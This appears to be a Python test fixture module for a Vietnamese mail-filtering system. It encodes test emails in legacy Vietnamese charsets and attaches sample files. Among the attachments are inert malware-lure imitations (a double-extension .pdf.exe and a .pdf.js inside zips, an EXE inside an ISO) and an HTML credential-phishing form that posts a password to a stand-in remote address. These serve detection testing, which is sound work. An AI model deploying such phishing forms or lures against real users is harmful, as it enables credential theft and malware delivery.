"""How letters of the corpus look on the wire: charsets of old and new programs, forms, attachments."""

import io
import quopri
import struct
import unicodedata
import zipfile
from collections.abc import Callable, Mapping
from email.message import EmailMessage
from email.policy import SMTP
from functools import cache
from html import escape

from hanam_mail.regulation.legacy_tables import VNI_LETTERS
from tests import documents

_TONES = "\u0300\u0301\u0303\u0309\u0323"
_FONTS = {"tcvn3": ".VnTime", "vni": "VNI-Times"}


def unaccented(text: str) -> str:
    """The text as people type it who have no Vietnamese keyboard."""
    letters = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    return "".join(letter for letter in letters if not unicodedata.combining(letter))


def in_windows_1258(text: str) -> bytes:
    """A letter and its tone are two octets there."""
    made = ""
    for letter in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", letter)
        tone = "".join(part for part in parts if part in _TONES)
        made += unicodedata.normalize("NFC", "".join(part for part in parts if part not in _TONES)) + tone
    return made.encode("cp1258", "replace")


def in_vni(text: str) -> bytes:
    """As the VNI fonts have it: a vowel and a sign."""
    back = {new: old for old, new in VNI_LETTERS.items()}
    return "".join(back.get(each, each) for each in unicodedata.normalize("NFC", text)).encode("latin-1", "replace")


def _octets(text: str, charset: str) -> tuple[bytes, str]:
    """The text's octets, and the charset that the program of its writer says they have."""
    match charset:
        case "tcvn3":
            return documents.tcvn3(text.replace("–", "-")), "iso-8859-1"
        case "vni":
            return in_vni(text), "windows-1252"
        case "windows-1258":
            return in_windows_1258(text), "windows-1258"
        case "ascii":
            return unaccented(text).encode("ascii", "replace"), "us-ascii"
    return text.encode(), "utf-8"


def page(text: str, charset: str, link: tuple[str, str] | None) -> str:
    """The text as a page, as programs make it of what somebody types."""
    font = f' style="font-family: {_FONTS[charset]}"' if charset in _FONTS else ""
    lines = "".join(f"<p{font}>{escape(line)}</p>\n" for line in text.split("\n\n"))
    anchor = f'<p><a href="{escape(link[1])}">{escape(link[0])}</a></p>\n' if link else ""
    return f"<html><head></head><body>\n{lines}{anchor}</body></html>\n"


def body(mail: EmailMessage, text: str, *, charset: str, form: str, link: tuple[str, str] | None) -> None:
    """Give the message its text: `form` is plain, html, or both."""
    plain = text + (f"\n{link[0]}: {link[1]}\n" if link else "")
    kinds = {"plain": ["plain"], "html": ["html"], "both": ["plain", "html"]}[form]
    if len(kinds) > 1:
        mail["Content-Type"] = "multipart/alternative"
        mail.set_payload([])
    for kind in kinds:
        octets, said = _octets(plain if kind == "plain" else page(text, charset, link), charset)
        part = EmailMessage(policy=SMTP) if len(kinds) > 1 else mail
        part["Content-Type"] = f'text/{kind}; charset="{said}"'
        part["Content-Transfer-Encoding"] = "quoted-printable"
        part.set_payload(quopri.encodestring(octets).decode())
        if part is not mail:
            mail.attach(part)


def _iso(name: str) -> bytes:
    """A disk image with one file, so far as programs look that tell kinds of files by their content."""
    volume = b"\x01CD001\x01\x00" + b" " * 32 + b"HOADON".ljust(32) + bytes(1976)
    entry = struct.pack("<BBII", 33 + len(name), 0, 20, 0) + bytes(22) + bytes([len(name)]) + name.encode()
    return bytes(0x8000) + volume + b"\xffCD001\x01".ljust(2048, b"\0") + entry.ljust(2048, b"\0") + b"MZ" + bytes(4094)


def _zip(names: Mapping[str, bytes]) -> bytes:
    """Of one moment, so that the same letter is made again."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6)), content)
    return buffer.getvalue()


_FORM = (
    '<html><body><h3>Sign in to continue</h3><form action="http://198.51.100.9/a.php" method="post"><input name="u" '
    'value="nguoi.nhan@hanam.gov.vn"><input type="password" name="p"><input type="submit"></form></body></html>'
)

ATTACHMENTS: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "pdf": ("cong van.pdf", "application/pdf", lambda: documents.pdf("Công văn", "Kính gửi quý cơ quan")),
    "docx": (
        "Tài liệu.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        lambda: _zip(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document>Giay moi</w:document>" * 20}
        ),
    ),
    "xlsx": (
        "Phụ lục.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        lambda: _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook><sheet/></workbook>" * 20}),
    ),
    "xml": ("hoadon.xml", "text/xml", lambda: b'<?xml version="1.0"?>\n<HDon><DLHDon Id="data"/></HDon>\n'),
    "jpeg": ("IMG_2041.jpg", "image/jpeg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(3000) + b"\xff\xd9"),
    "exe_zip": ("HoaDon_0912.zip", "application/zip", lambda: _zip({"HoaDon_0912.pdf.exe": b"MZ" + bytes(3000)})),
    "js_zip": ("Bao gia.zip", "application/zip", lambda: _zip({"Bao gia.pdf.js": b"var a = 1;\n" * 200})),
    "exe_iso": ("PO_2026.iso", "application/octet-stream", lambda: _iso("PO_2026.EXE;1")),
    "html_form": ("Document.html", "text/html", _FORM.encode),
}


@cache
def _attachment(kind: str) -> tuple[str, str, bytes]:
    name, said, make = ATTACHMENTS[kind]
    return name, said, make()


def attach(mail: EmailMessage, kind: str, number: int) -> None:
    """Add a file of that kind, the `number`th of its message."""
    name, said, content = _attachment(kind)
    maintype, subtype = said.split("/")
    shown = name if number == 0 else f"{number}-{name}"
    mail.add_attachment(content, maintype=maintype, subtype=subtype, filename=shown)
